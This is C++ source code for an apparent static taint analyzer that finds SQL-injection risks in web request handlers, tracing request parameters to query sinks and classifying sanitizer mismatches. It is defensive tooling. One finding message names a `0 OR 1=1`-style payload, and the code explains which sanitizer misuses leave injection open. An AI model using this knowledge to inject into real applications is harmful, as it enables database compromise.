    for (size_t i = 0; i + 1 < toks_.size(); ++i) {
      if (toks_[i].is_ident("handle") && toks_[i + 1].is_punct("(") &&
          i > 0 && toks_[i - 1].is_punct("::")) {
        size_t close = match_paren(i + 1);
        if (close == kNpos) continue;
        if (!bind_handler_params(i + 1, close)) continue;
        size_t body_open = close + 1;
        if (body_open >= toks_.size() || !toks_[body_open].is_punct("{")) {
          continue;  // declaration, not a definition
        }
        size_t body_close = match_brace(body_open);
        if (body_close == kNpos) continue;
        found = true;
        analyze_handler(body_open + 1, body_close);
        i = body_close;
      }
    }
    if (!found) {
      note(0, "no `::handle(const Request&, AppContext&)` definition found");
    }
    finish();
  }

 private:
  static constexpr size_t kNpos = static_cast<size_t>(-1);

  // ---------------------------------------------------------- token utils

  size_t match_open(size_t p, const char* open, const char* close) const {
    if (!toks_[p].is_punct(open)) return kNpos;
    int depth = 0;
    for (size_t i = p; i < toks_.size(); ++i) {
      if (toks_[i].kind != TokKind::kPunct) continue;
      if (toks_[i].text == open) ++depth;
      else if (toks_[i].text == close && --depth == 0) return i;
    }
    return kNpos;
  }
  size_t match_paren(size_t p) const { return match_open(p, "(", ")"); }
  size_t match_brace(size_t p) const { return match_open(p, "{", "}"); }

  /// Index just past the `;` terminating the statement starting at p.
  size_t stmt_end(size_t p, size_t limit) const {
    int depth = 0;
    for (size_t i = p; i < limit; ++i) {
      if (toks_[i].kind != TokKind::kPunct) continue;
      const std::string& t = toks_[i].text;
      if (t == "(" || t == "{" || t == "[") ++depth;
      else if (t == ")" || t == "}" || t == "]") --depth;
      else if (t == ";" && depth == 0) return i + 1;
    }
    return limit;
  }

  /// Split [b,e) at depth-0 occurrences of a single-char punct.
  std::vector<std::pair<size_t, size_t>> split_depth0(size_t b, size_t e,
                                                      const char* sep) const {
    std::vector<std::pair<size_t, size_t>> out;
    int depth = 0;
    size_t start = b;
    for (size_t i = b; i < e; ++i) {
      if (toks_[i].kind != TokKind::kPunct) continue;
      const std::string& t = toks_[i].text;
      if (t == "(" || t == "{" || t == "[") ++depth;
      else if (t == ")" || t == "}" || t == "]") --depth;
      else if (depth == 0 && t == sep) {
        out.emplace_back(start, i);
        start = i + 1;
      }
    }
    out.emplace_back(start, e);
    return out;
  }

  /// Depth-0 index of punct `sep` in [b,e), or kNpos.
  size_t find_depth0(size_t b, size_t e, const char* sep) const {
    int depth = 0;
    for (size_t i = b; i < e; ++i) {
      if (toks_[i].kind != TokKind::kPunct) continue;
      const std::string& t = toks_[i].text;
      if (t == "(" || t == "{" || t == "[") ++depth;
      else if (t == ")" || t == "}" || t == "]") --depth;
      else if (depth == 0 && t == sep) return i;
    }
    return kNpos;
  }

  // ------------------------------------------------------ handler binding

  bool bind_handler_params(size_t lparen, size_t rparen) {
    request_var_.clear();
    ctx_var_.clear();
    for (auto [b, e] : split_depth0(lparen + 1, rparen, ",")) {
      bool is_request = false, is_ctx = false;
      std::string last_ident;
      for (size_t i = b; i < e; ++i) {
        if (toks_[i].kind != TokKind::kIdent) continue;
        if (toks_[i].text == "Request") is_request = true;
        if (toks_[i].text == "AppContext") is_ctx = true;
        last_ident = toks_[i].text;
      }
      if (is_request) request_var_ = last_ident;
      if (is_ctx) ctx_var_ = last_ident;
    }
    return !request_var_.empty() && !ctx_var_.empty();
  }

  // ----------------------------------------------------------- execution

  void analyze_handler(size_t begin, size_t end) {
    std::vector<World> worlds(1);
    exec_block(begin, end, worlds);
  }

  void exec_block(size_t begin, size_t end, std::vector<World>& worlds) {
    size_t p = begin;
    while (p < end) p = exec_statement(p, end, worlds);
  }

  size_t exec_statement(size_t p, size_t end, std::vector<World>& worlds) {
    const Tok& t = toks_[p];
    if (t.is_punct(";")) return p + 1;
    if (t.is_punct("{")) {  // nested bare block
      size_t close = match_brace(p);
      if (close == kNpos || close > end) return end;
      exec_block(p + 1, close, worlds);
      return close + 1;
    }
    if (t.is_ident("using")) return stmt_end(p, end);
    if (t.is_ident("return")) {
      // A return may still issue queries in its expression (not in the
      // stock apps, but cheap to cover): evaluate, then the path dies.
      size_t se = stmt_end(p, end);
      prefork(p + 1, se - 1, worlds);
      for (World& w : worlds) eval_expr(p + 1, se - 1, w);
      worlds.clear();
      return se;
    }
    if (t.is_ident("if")) return exec_if(p, end, worlds);

    // Declaration?
    size_t name_pos = kNpos, init_pos = kNpos;
    if (parse_decl_head(p, end, name_pos, init_pos)) {
      size_t se = stmt_end(p, end);
      prefork(init_pos, se - 1, worlds);
      for (World& w : worlds) {
        w.env[toks_[name_pos].text] = eval_expr(init_pos, se - 1, w);
      }
      return se;
    }
    // Assignment / append?
    if (t.kind == TokKind::kIdent && p + 1 < end &&
        (toks_[p + 1].is_punct("=") || toks_[p + 1].is_punct("+="))) {
      bool append = toks_[p + 1].text == "+=";
      size_t se = stmt_end(p, end);
      prefork(p + 2, se - 1, worlds);
      for (World& w : worlds) {
        AbsVal v = eval_expr(p + 2, se - 1, w);
        if (append) {
          AbsVal& cur = w.env[t.text];
          cur.frags.insert(cur.frags.end(), v.frags.begin(), v.frags.end());
        } else {
          w.env[t.text] = std::move(v);
        }
      }
      return se;
    }
    // Plain expression statement (typically a ctx.sql call).
    size_t se = stmt_end(p, end);
    prefork(p, se - 1, worlds);
    for (World& w : worlds) eval_expr(p, se - 1, w);
    return se;
  }

  /// Recognize the declaration shapes the apps use:
  ///   std::string x = ...;   auto x = ...;   int64_t x = ...;  etc.
  bool parse_decl_head(size_t p, size_t end, size_t& name_pos,
                       size_t& init_pos) const {
    static const std::set<std::string> kScalarTypes = {
        "auto", "int", "int64_t", "int32_t", "uint64_t",
        "size_t", "double", "float", "bool"};
    size_t i = p;
    if (toks_[i].is_ident("const")) ++i;
    if (toks_[i].is_ident("std") && i + 2 < end &&
        toks_[i + 1].is_punct("::") && toks_[i + 2].is_ident("string")) {
      i += 3;
    } else if (toks_[i].kind == TokKind::kIdent &&
               kScalarTypes.count(toks_[i].text)) {
      i += 1;
    } else {
      return false;
    }
    while (i < end && (toks_[i].is_punct("&") || toks_[i].is_punct("*"))) ++i;
    if (i >= end || toks_[i].kind != TokKind::kIdent) return false;
    if (i + 1 >= end || !toks_[i + 1].is_punct("=")) return false;
    name_pos = i;
    init_pos = i + 2;
    return true;
  }

  size_t exec_if(size_t p, size_t end, std::vector<World>& worlds) {
    size_t lp = p + 1;
    size_t rp = (lp < end) ? match_paren(lp) : kNpos;
    if (rp == kNpos || rp > end) return end;
    prefork(lp + 1, rp, worlds);

    std::vector<World> enter, skip;
    std::string route;
    for (World& w : worlds) {
      std::string r;
      TriBool c = eval_cond(lp + 1, rp, w, &r);
      if (!r.empty()) route = r;
      switch (c) {
        case TriBool::kTrue: enter.push_back(std::move(w)); break;
        case TriBool::kFalse: skip.push_back(std::move(w)); break;
        case TriBool::kUnknown:
          if (enter.size() + skip.size() + 2 <= opts_.max_worlds) {
            enter.push_back(w);
            skip.push_back(std::move(w));
          } else {
            note(toks_[p].line, "path-fork cap reached; exploring the "
                                "taken branch only");
            enter.push_back(std::move(w));
          }
          break;
      }
    }

    // Body of the taken branch.
    size_t after = body_range_exec(rp + 1, end, enter, route);
    // Optional else (else-if chains recurse through exec_statement).
    if (after < end && toks_[after].is_ident("else")) {
      after = body_range_exec(after + 1, end, skip, "");
    }
    worlds.clear();
    worlds.reserve(enter.size() + skip.size());
    for (World& w : enter) worlds.push_back(std::move(w));
    for (World& w : skip) worlds.push_back(std::move(w));
    if (worlds.size() > opts_.max_worlds) worlds.resize(opts_.max_worlds);
    return after;
  }

  /// Execute a brace block or single statement starting at p with the
  /// given world set; returns the index just past it.
  size_t body_range_exec(size_t p, size_t end, std::vector<World>& worlds,
                         const std::string& route) {
    if (!route.empty()) route_stack_.push_back(route);
    size_t after;
    if (p < end && toks_[p].is_punct("{")) {
      size_t close = match_brace(p);
      if (close == kNpos || close > end) close = end;
      exec_block(p + 1, close, worlds);
      after = close + 1;
    } else {
      after = exec_statement(p, end, worlds);
    }
    if (!route.empty()) route_stack_.pop_back();
    return after;
  }

  // ------------------------------------------------------- path splitting

  /// Fork worlds so every `var.empty()` inside [b,e) over a tainted
  /// tracked string variable has a determined outcome.
  void prefork(size_t b, size_t e, std::vector<World>& worlds) {
    std::vector<std::string> vars;
    for (size_t i = b; i + 4 < e; ++i) {
      if (toks_[i].kind == TokKind::kIdent && toks_[i + 1].is_punct(".") &&
          toks_[i + 2].is_ident("empty") && toks_[i + 3].is_punct("(") &&
          toks_[i + 4].is_punct(")") &&
          (i == b || !toks_[i - 1].is_punct("."))) {
        vars.push_back(toks_[i].text);
      }
    }
    for (const std::string& var : vars) {
      std::vector<World> next;
      for (World& w : worlds) {
        if (value_emptiness(w, var) != TriBool::kUnknown) {
          next.push_back(std::move(w));
          continue;
        }
        if (next.size() + 2 > opts_.max_worlds) {
          w.known_empty[var] = false;  // explore the interesting arm only
          note(toks_[b].line, "path-fork cap reached on `" + var +
                                  ".empty()`; assuming non-empty");
          next.push_back(std::move(w));
          continue;
        }
        World empty = w;
        empty.known_empty[var] = true;
        empty.env[var] = AbsVal{{Fragment::literal("")}, false, ""};
        w.known_empty[var] = false;
        next.push_back(std::move(w));
        next.push_back(std::move(empty));
      }
      worlds = std::move(next);
    }
  }

  TriBool value_emptiness(const World& w, const std::string& var) const {
    auto ke = w.known_empty.find(var);
    if (ke != w.known_empty.end()) return ke->second ? TriBool::kTrue
                                                     : TriBool::kFalse;
    auto it = w.env.find(var);
    if (it == w.env.end()) return TriBool::kUnknown;
    const AbsVal& v = it->second;
    if (v.is_result) return TriBool::kUnknown;
    bool any_tainted = false;
    for (const Fragment& f : v.frags) {
      if (f.origin == Origin::kLiteral && !f.text.empty()) {
        return TriBool::kFalse;
      }
      if (f.origin != Origin::kLiteral) any_tainted = true;
    }
    return any_tainted ? TriBool::kUnknown : TriBool::kTrue;
  }

  // ---------------------------------------------------------- conditions

  TriBool eval_cond(size_t b, size_t e, World& w, std::string* route) {
    // OR of ANDs, C++ short-circuit semantics over three-valued logic.
    auto ors = split_depth0(b, e, "||");
    bool any_unknown = false;
    for (auto [ob, oe] : ors) {
      TriBool v = eval_cond_and(ob, oe, w, route);
      if (v == TriBool::kTrue) return TriBool::kTrue;
      if (v == TriBool::kUnknown) any_unknown = true;
    }
    return any_unknown ? TriBool::kUnknown : TriBool::kFalse;
  }

  TriBool eval_cond_and(size_t b, size_t e, World& w, std::string* route) {
    auto ands = split_depth0(b, e, "&&");
    bool any_unknown = false;
    for (auto [ab, ae] : ands) {
      TriBool v = eval_cond_unit(ab, ae, w, route);
      if (v == TriBool::kFalse) return TriBool::kFalse;
      if (v == TriBool::kUnknown) any_unknown = true;
    }
    return any_unknown ? TriBool::kUnknown : TriBool::kTrue;
  }

  TriBool eval_cond_unit(size_t b, size_t e, World& w, std::string* route) {
    while (b < e && toks_[e - 1].is_punct(";")) --e;
    if (b >= e) return TriBool::kUnknown;
    if (toks_[b].is_punct("!")) {
      TriBool v = eval_cond_unit(b + 1, e, w, route);
      if (v == TriBool::kTrue) return TriBool::kFalse;
      if (v == TriBool::kFalse) return TriBool::kTrue;
      return TriBool::kUnknown;
    }
    if (toks_[b].is_punct("(") && match_paren(b) == e - 1) {
      return eval_cond(b + 1, e - 1, w, route);
    }
    size_t eq = find_depth0(b, e, "==");
    if (eq == kNpos) eq = find_depth0(b, e, "!=");
    if (eq != kNpos) {
      // `request.path == "/x"` labels the route; every comparison against
      // request state is route dispatch and stays unresolved.
      if (route && eq + 1 < e && toks_[eq].text == "==" &&
          toks_[eq + 1].kind == TokKind::kString && eq >= b + 3 &&
          toks_[b].is_ident(request_var_) && toks_[b + 1].is_punct(".") &&
          toks_[b + 2].is_ident("path")) {
        *route = toks_[eq + 1].text;
      }
      return TriBool::kUnknown;
    }
    // `x.empty()`
    if (e - b >= 5 && toks_[b].kind == TokKind::kIdent &&
        toks_[b + 1].is_punct(".") && toks_[b + 2].is_ident("empty")) {
      return value_emptiness(w, toks_[b].text);
    }
    return TriBool::kUnknown;
  }

  // --------------------------------------------------------- expressions

  AbsVal eval_expr(size_t b, size_t e, World& w) {
    while (b < e && toks_[b].is_punct(";")) ++b;
    while (b < e && toks_[e - 1].is_punct(";")) --e;
    if (b >= e) return {};
    // Ternary at depth 0?
    size_t q = find_depth0(b, e, "?");
    if (q != kNpos) {
      size_t colon = find_depth0(q + 1, e, ":");
      if (colon != kNpos) {
        TriBool c = eval_cond(b, q, w, nullptr);
        if (c == TriBool::kTrue) return eval_expr(q + 1, colon, w);
        if (c == TriBool::kFalse) return eval_expr(colon + 1, e, w);
        // Unresolvable condition: explore the arm carrying taint (the
        // other arm is a constant default) and note the approximation.
        AbsVal a = eval_expr(q + 1, colon, w);
        AbsVal bv = eval_expr(colon + 1, e, w);
        note(toks_[b].line, "unresolved ternary condition; taking the "
                            "tainted arm");
        for (const Fragment& f : bv.frags) {
          if (f.tainted()) return bv;
        }
        return a;
      }
    }
    // Concatenation chain.
    AbsVal out;
    for (auto [pb, pe] : split_depth0(b, e, "+")) {
      AbsVal part = eval_primary(pb, pe, w);
      out.frags.insert(out.frags.end(), part.frags.begin(), part.frags.end());
      if (part.is_result) {
        out.is_result = true;
        out.result_site = part.result_site;
      }
    }
    return out;
  }

  AbsVal eval_primary(size_t b, size_t e, World& w) {
    while (b < e && toks_[e - 1].is_punct(";")) --e;
    if (b >= e) return {};
    if (toks_[b].is_punct("(") && match_paren(b) == e - 1) {
      return eval_expr(b + 1, e - 1, w);
    }
    if (toks_[b].kind == TokKind::kString) {
      std::string text;
      size_t i = b;
      while (i < e && toks_[i].kind == TokKind::kString) {
        text += toks_[i].text;
        ++i;
      }
      return {{Fragment::literal(std::move(text))}, false, ""};
    }
    if (toks_[b].kind == TokKind::kNumber) {
      return {{Fragment::literal(toks_[b].text)}, false, ""};
    }
    if (toks_[b].kind != TokKind::kIdent) {
      note(toks_[b].line, "unparsed expression near `" + toks_[b].text + "`");
      return {};
    }
    // Qualified name: a::b::c — dispatch on the last component.
    size_t i = b;
    std::string name = toks_[i].text;
    while (i + 2 < e && toks_[i + 1].is_punct("::") &&
           toks_[i + 2].kind == TokKind::kIdent) {
      i += 2;
      name = toks_[i].text;
    }
    ++i;
    // Call?
    if (i < e && toks_[i].is_punct("(")) {
      size_t close = match_paren(i);
      if (close == kNpos || close >= e) close = e - 1;
      return eval_call(name, toks_[b].line, i + 1, close, w);
    }
    // Plain variable, possibly with postfix (member access / indexing).
    if (i >= e) {
      auto it = w.env.find(name);
      if (it != w.env.end()) return it->second;
      note(toks_[b].line, "unknown identifier `" + name + "` treated as "
                          "tainted");
      Fragment f;
      f.origin = Origin::kParam;
      f.source = "opaque:" + name;
      f.line = toks_[b].line;
      return {{std::move(f)}, false, ""};
    }
    return eval_postfix(name, b, i, e, w);
  }

  /// Postfix chains rooted at a variable: `rs.rows[0][0].coerce_string()`,
  /// `rs.affected_rows`, `ctx.sql(...)`.
  AbsVal eval_postfix(const std::string& base, size_t base_pos, size_t i,
                      size_t e, World& w) {
    int line = toks_[base_pos].line;
    if (base == ctx_var_) return eval_ctx_call(i, e, w, line);

    auto it = w.env.find(base);
    if (it != w.env.end() && it->second.is_result) {
      const std::string site = it->second.result_site;
      // Anything read out of a result set is stored-origin data; the
      // coercion decides whether it can still carry SQL structure.
      bool numeric = false;
      for (size_t j = i; j < e; ++j) {
        if (toks_[j].kind == TokKind::kIdent &&
            (toks_[j].text == "coerce_int" || toks_[j].text == "as_int" ||
             toks_[j].text == "coerce_double" ||
             toks_[j].text == "as_double" ||
             toks_[j].text == "affected_rows")) {
          numeric = true;
        }
      }
      Fragment f;
      f.origin = Origin::kStored;
      f.source = "stored:" + site;
      f.numeric = numeric;
      f.line = line;
      return {{std::move(f)}, false, ""};
    }
    // Unknown postfix over a tracked or unknown base: propagate the base
    // value (e.g. `x.c_str()`); otherwise opaque.
    if (it != w.env.end()) return it->second;
    note(line, "unresolved member access on `" + base + "`");
    return {};
  }

  AbsVal eval_ctx_call(size_t i, size_t e, World& w, int line) {
    // i points at `.`; expect `.method(args)`.
    if (i + 1 >= e || !toks_[i].is_punct(".")) return {};
    const std::string method = toks_[i + 1].text;
    size_t lp = i + 2;
    if (lp >= e || !toks_[lp].is_punct("(")) return {};
    size_t rp = match_paren(lp);
    if (rp == kNpos || rp >= e + 1) rp = e - 1;
    auto args = split_depth0(lp + 1, rp, ",");

    if (method == opts_.rules.sink_method && args.size() >= 2) {
      AbsVal query = eval_expr(args[0].first, args[0].second, w);
      std::string site = resolve_site(args[1].first, args[1].second, w);
      record_sink(site, line, /*prepared=*/false, query.frags);
      return {{}, true, site};
    }
    if (method == opts_.rules.sink_prepared_method && args.size() >= 3) {
      return eval_prepared_sink(args, w, line);
    }
    if (method == "last_insert_id") {
      Fragment f;
      f.origin = Origin::kTrusted;
      f.numeric = true;
      f.line = line;
      return {{std::move(f)}, false, ""};
    }
    return {};  // session() etc.: no data flow we track
  }

  AbsVal eval_prepared_sink(
      const std::vector<std::pair<size_t, size_t>>& args, World& w,
      int line) {
    AbsVal tpl = eval_expr(args[0].first, args[0].second, w);
    std::string site =
        resolve_site(args.back().first, args.back().second, w);

    // Bound parameters: `{sql::Value(expr), ...}`.
    std::vector<Fragment> params;
    auto [pb, pe] = args[1];
    if (pb < pe && toks_[pb].is_punct("{")) {
      size_t close = match_open(pb, "{", "}");
      if (close == kNpos || close > pe) close = pe;
      for (auto [ib, ie] : split_depth0(pb + 1, close, ",")) {
        // Unwrap `sql::Value( ... )`.
        size_t vb = ib, ve = ie;
        size_t j = vb;
        std::string nm;
        while (j < ve && (toks_[j].kind == TokKind::kIdent ||
                          toks_[j].is_punct("::"))) {
          if (toks_[j].kind == TokKind::kIdent) nm = toks_[j].text;
          ++j;
        }
        if (nm == "Value" && j < ve && toks_[j].is_punct("(")) {
          size_t c = match_paren(j);
          if (c != kNpos && c < ve + 1) {
            vb = j + 1;
            ve = c;
          }
        }
        AbsVal v = eval_expr(vb, ve, w);
        Fragment f;
        if (!v.frags.empty()) f = v.frags.front();
        f.sanitizers.push_back(Sanitizer::kPreparedBind);
        if (f.origin == Origin::kLiteral) {
          // A constant bound value still occupies a placeholder slot; its
          // runtime item type follows the Value's type.
          f.origin = Origin::kTrusted;
          f.numeric = !f.text.empty() &&
                      f.text.find_first_not_of("0123456789.-") ==
                          std::string::npos;
        }
        f.line = toks_[ib].line;
        params.push_back(std::move(f));
      }
    }

    // Interleave template text with the bound parameters at each `?`
    // placeholder outside quoted runs.
    std::vector<Fragment> frags;
    std::string text;
    for (const Fragment& t : tpl.frags) text += t.text;
    std::string cur;
    bool in_quote = false;
    size_t next_param = 0;
    for (char c : text) {
      if (c == '\'') in_quote = !in_quote;
      if (c == '?' && !in_quote && next_param < params.size()) {
        frags.push_back(Fragment::literal(cur));
        cur.clear();
        frags.push_back(params[next_param++]);
        continue;
      }
      cur += c;
    }
    frags.push_back(Fragment::literal(cur));
    record_sink(site, line, /*prepared=*/true, frags);
    return {{}, true, site};
  }

  std::string resolve_site(size_t b, size_t e, World& w) {
    AbsVal v = eval_expr(b, e, w);
    std::string site;
    for (const Fragment& f : v.frags) {
      if (f.origin != Origin::kLiteral) {
        note(toks_[b].line, "non-literal site label; reported as <dynamic>");
        return "<dynamic>";
      }
      site += f.text;
    }
    return site;
  }

  AbsVal eval_call(const std::string& name, int line, size_t args_b,
                   size_t args_e, World& w) {
    auto args = split_depth0(args_b, args_e, ",");

    if (name == "move" || name == "to_string") {
      return args.empty() ? AbsVal{}
                          : eval_expr(args[0].first, args[0].second, w);
    }
    for (const std::string& src : opts_.rules.source_fns) {
      if (name != src) continue;
      // Shape: param(<request>, "key").
      if (args.size() == 2 &&
          toks_[args[1].first].kind == TokKind::kString) {
        Fragment f;
        f.origin = Origin::kParam;
        f.source = toks_[args[1].first].text;
        f.line = line;
        return {{std::move(f)}, false, ""};
      }
      note(line, "source call `" + name + "` with non-literal key");
      Fragment f;
      f.origin = Origin::kParam;
      f.source = "opaque:" + name;
      f.line = line;
      return {{std::move(f)}, false, ""};
    }
    for (const auto& san : opts_.rules.sanitizer_fns) {
      if (name != san.name) continue;
      AbsVal v = args.empty()
                     ? AbsVal{}
                     : eval_expr(args[0].first, args[0].second, w);
      for (Fragment& f : v.frags) {
        if (!f.tainted()) continue;
        f.sanitizers.push_back(san.kind);
        if (san.numeric_result) f.numeric = true;
      }
      if (san.numeric_result && v.frags.empty()) {
        // intval() of something we lost track of: a safe number.
        Fragment f;
        f.origin = Origin::kTrusted;
        f.numeric = true;
        f.line = line;
        v.frags.push_back(std::move(f));
      }
      return v;
    }
    // Unknown callee: evaluate arguments (they may contain sinks) and
    // propagate their taint — assuming an unknown function neutralizes
    // nothing is the conservative reading for a security linter.
    AbsVal out;
    bool any = false;
    for (auto [ab, ae] : args) {
      if (ab >= ae) continue;
      AbsVal v = eval_expr(ab, ae, w);
      out.frags.insert(out.frags.end(), v.frags.begin(), v.frags.end());
      any = any || !v.frags.empty();
    }
    if (any) {
      note(line, "unknown call `" + name + "` treated as taint-preserving");
    }
    return out;
  }

  // -------------------------------------------------------------- output

  std::string current_route() const {
    for (auto it = route_stack_.rbegin(); it != route_stack_.rend(); ++it) {
      if (!it->empty()) return *it;
    }
    return "";
  }

  void record_sink(const std::string& site, int line, bool prepared,
                   std::vector<Fragment> frags) {
    SinkVariant v;
    v.site = site;
    v.route = current_route();
    v.line = line;
    v.prepared = prepared;
    v.fragments = std::move(frags);

    const std::string key = site + "\x1f" + v.template_text();
    if (!seen_sinks_.insert(key).second) return;
    classify(v);
    out_.sinks.push_back(std::move(v));
  }

  /// The semantic-mismatch taxonomy, statically: each tainted fragment is
  /// judged against the SQL context it lands in.
  void classify(const SinkVariant& v) {
    bool in_quote = false;
    for (const Fragment& f : v.fragments) {
      if (f.origin == Origin::kLiteral) {
        for (char c : f.text) {
          if (c == '\'') in_quote = !in_quote;
        }
        continue;
      }
      if (!f.tainted()) continue;
      bool bound = false, escaped = false, html = false;
      for (Sanitizer s : f.sanitizers) {
        switch (s) {
          case Sanitizer::kPreparedBind: bound = true; break;
          case Sanitizer::kMysqlRealEscapeString:
          case Sanitizer::kAddslashes: escaped = true; break;
          case Sanitizer::kHtmlSpecialChars:
          case Sanitizer::kHtmlEntities:
          case Sanitizer::kStripTags: html = true; break;
          case Sanitizer::kIntval:
          case Sanitizer::kFloatval: break;  // tracked via f.numeric
        }
      }
      if (bound || f.numeric) continue;  // cannot alter statement structure

      SinkContext ctx = in_quote ? SinkContext::kQuoted : SinkContext::kRaw;
      Finding fd;
      fd.route = v.route;
      fd.site = v.site;
      fd.source = f.source;
      fd.context = ctx;
      fd.sanitizers = f.sanitizers;
      fd.line = f.line ? f.line : v.line;

      if (ctx == SinkContext::kRaw && escaped) {
        fd.klass = FindingClass::kEscapeNumericMismatch;
        fd.severity = Severity::kError;
        fd.message = "'" + f.source + "' is string-escaped but lands in an "
                     "unquoted numeric context; escaping cannot stop "
                     "`0 OR 1=1`-style payloads (paper Section II-D)";
      } else if (ctx == SinkContext::kQuoted && escaped) {
        continue;  // the intended pairing (runtime multibyte gaps are
                   // SEPTIC's job, not a source-level mismatch)
      } else if (html) {
        fd.klass = FindingClass::kHtmlSqlMismatch;
        fd.severity = Severity::kError;
        fd.message = "'" + f.source + "' is HTML-encoded only; HTML entity "
                     "encoding does not neutralize SQL metacharacters in "
                     "a " + std::string(sink_context_name(ctx)) +
                     " SQL context";
      } else if (f.origin == Origin::kStored) {
        fd.klass = FindingClass::kStoredUnsanitized;
        fd.severity = Severity::kWarning;
        fd.message = "value read back from query site '" +
                     f.source.substr(f.source.find(':') + 1) +
                     "' re-enters a query without sanitization "
                     "(second-order injection path)";
      } else {
        fd.klass = FindingClass::kTaintedUnsanitized;
        fd.severity = Severity::kError;
        fd.message = "'" + f.source + "' reaches the query without any "
                     "sanitization";
      }
      findings_.insert(std::move(fd));
    }
  }

  void note(int line, const std::string& message) {
    if (seen_notes_.insert(message).second) {
      out_.notes.push_back({line, message});
    }
  }

  void finish() {
    out_.findings.assign(findings_.begin(), findings_.end());
  }

  struct FindingLess {
    bool operator()(const Finding& a, const Finding& b) const {
      auto key = [](const Finding& f) {
        return std::tie(f.line, f.site, f.source, f.klass, f.context);
      };
      return key(a) < key(b);
    }
  };

  std::vector<Tok> toks_;
  const ScanOptions& opts_;
  AppScan& out_;
  std::string request_var_, ctx_var_;
  std::vector<std::string> route_stack_;
  std::set<std::string> seen_sinks_;
  std::set<std::string> seen_notes_;
  std::set<Finding, FindingLess> findings_;
};

}  // namespace

AppScan analyze_source(std::string_view source, const ScanOptions& opts) {
  AppScan out;
  out.app = opts.app_name;
  out.file = opts.file_label;
  Analyzer(source, opts, out).run();
  return out;
}

}  // namespace septic::analysis

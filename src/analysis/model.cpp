#include "analysis/model.h"

namespace septic::analysis {

const char* origin_name(Origin o) {
  switch (o) {
    case Origin::kLiteral: return "literal";
    case Origin::kParam: return "param";
    case Origin::kStored: return "stored";
    case Origin::kTrusted: return "trusted";
  }
  return "?";
}

const char* sanitizer_name(Sanitizer s) {
  switch (s) {
    case Sanitizer::kMysqlRealEscapeString: return "mysql_real_escape_string";
    case Sanitizer::kAddslashes: return "addslashes";
    case Sanitizer::kIntval: return "intval";
    case Sanitizer::kFloatval: return "floatval";
    case Sanitizer::kHtmlSpecialChars: return "htmlspecialchars";
    case Sanitizer::kHtmlEntities: return "htmlentities";
    case Sanitizer::kStripTags: return "strip_tags";
    case Sanitizer::kPreparedBind: return "prepared_bind";
  }
  return "?";
}

const char* sink_context_name(SinkContext c) {
  switch (c) {
    case SinkContext::kQuoted: return "quoted";
    case SinkContext::kRaw: return "raw";
  }
  return "?";
}

const char* finding_class_name(FindingClass c) {
  switch (c) {
    case FindingClass::kTaintedUnsanitized: return "tainted-unsanitized";
    case FindingClass::kStoredUnsanitized: return "stored-unsanitized";
    case FindingClass::kEscapeNumericMismatch:
      return "escape-numeric-mismatch";
    case FindingClass::kHtmlSqlMismatch: return "html-sql-mismatch";
    case FindingClass::kTemplateParseError: return "template-parse-error";
  }
  return "?";
}

const char* severity_name(Severity s) {
  switch (s) {
    case Severity::kWarning: return "warning";
    case Severity::kError: return "error";
  }
  return "?";
}

std::string SinkVariant::template_text() const {
  std::string out;
  for (const Fragment& f : fragments) {
    switch (f.origin) {
      case Origin::kLiteral:
        out += f.text;
        break;
      case Origin::kParam:
        out += "{param:" + f.source + "}";
        break;
      case Origin::kStored:
        out += "{" + f.source + "}";
        break;
      case Origin::kTrusted:
        out += "{trusted}";
        break;
    }
  }
  return out;
}

std::string SinkVariant::benign_text() const {
  // Mirrors the runtime training crawler: a harmless alphanumeric token in
  // quoted contexts, the integer 1 anywhere raw. Numeric compatibility in
  // the detector (INT vs DECIMAL, strict_numeric_types=false) makes 1
  // stand in for decimal form inputs too.
  std::string out;
  bool in_quote = false;
  for (const Fragment& f : fragments) {
    if (f.origin == Origin::kLiteral) {
      for (char c : f.text) {
        if (c == '\'') in_quote = !in_quote;
      }
      out += f.text;
      continue;
    }
    bool bound = false;
    for (Sanitizer s : f.sanitizers) {
      if (s == Sanitizer::kPreparedBind) bound = true;
    }
    if (bound && !in_quote) {
      // A bound parameter occupies a raw `?` slot; its runtime item type
      // follows the bound Value's type, so a string parameter must
      // synthesize a quoted literal.
      out += f.numeric ? "1" : "'x'";
      continue;
    }
    out += in_quote ? "x" : "1";
  }
  return out;
}

size_t AppScan::count(Severity s) const {
  size_t n = 0;
  for (const Finding& f : findings) {
    if (f.severity == s) ++n;
  }
  return n;
}

}  // namespace septic::analysis

// Static taint analysis over one application source file.
//
// The analyzer locates every `Response <App>::handle(const Request& r,
// AppContext& ctx)` definition and abstractly interprets its body:
//
//   sources      param(request, "k")            -> tainted fragment
//   propagators  operator+, +=, std::to_string,
//                std::move, ternaries           -> fragment concatenation
//   sanitizers   web/sanitize.h functions       -> recorded on the fragment
//   sinks        ctx.sql / ctx.sql_prepared     -> SinkVariant + findings
//
// Path sensitivity: conditions of the form `var.empty()` over tainted
// string variables fork the abstract state into an empty and a non-empty
// world — that is exactly the construct the sample apps use to build
// queries conditionally (refbase's optional `AND year = ...`, the
// `(v.empty() ? "0" : v)` default idiom) — so each world yields a concrete
// query template. Route conditions (`request.path == "/x"`) label findings
// but stay unresolved: both branches are explored.
#pragma once

#include <string_view>

#include "analysis/model.h"

namespace septic::analysis {

struct ScanOptions {
  ScanRules rules;
  std::string app_name;    // external-ID application name ("tickets")
  std::string file_label;  // shown in reports (basename of the source)
  size_t max_worlds = 256;  // path-fork cap; exceeding it emits a note
};

/// Analyze a translation unit. Never throws; scanner limitations surface
/// as AppScan::notes.
AppScan analyze_source(std::string_view source, const ScanOptions& opts);

}  // namespace septic::analysis

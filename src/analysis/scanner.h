// Top-level septic-scan entry points: scan a handler source file, emit
// findings and pre-trained query models. This is the API the CLI, the
// tests, and the check.sh scan tier all share.
#pragma once

#include <string>
#include <string_view>

#include "analysis/dataflow.h"
#include "analysis/report.h"
#include "septic/qm_store.h"

namespace septic::analysis {

struct ScannerConfig {
  ScanRules rules;
  bool emit_external_ids = true;  // mirror the deployed StackConfig
  size_t max_worlds = 256;
};

/// Scan a source buffer: taint analysis + offline QM emission into `store`.
ScanReport::AppEntry scan_source(std::string_view source,
                                 const std::string& app_name,
                                 const std::string& file_label,
                                 core::QmStore& store,
                                 const ScannerConfig& config = {});

/// Read and scan a file. An empty `app_name` defaults to the file stem
/// ("src/web/apps/tickets.cpp" -> "tickets"), matching how the sample apps
/// name themselves. Throws std::runtime_error when the file is unreadable.
ScanReport::AppEntry scan_file(const std::string& path, std::string app_name,
                               core::QmStore& store,
                               const ScannerConfig& config = {});

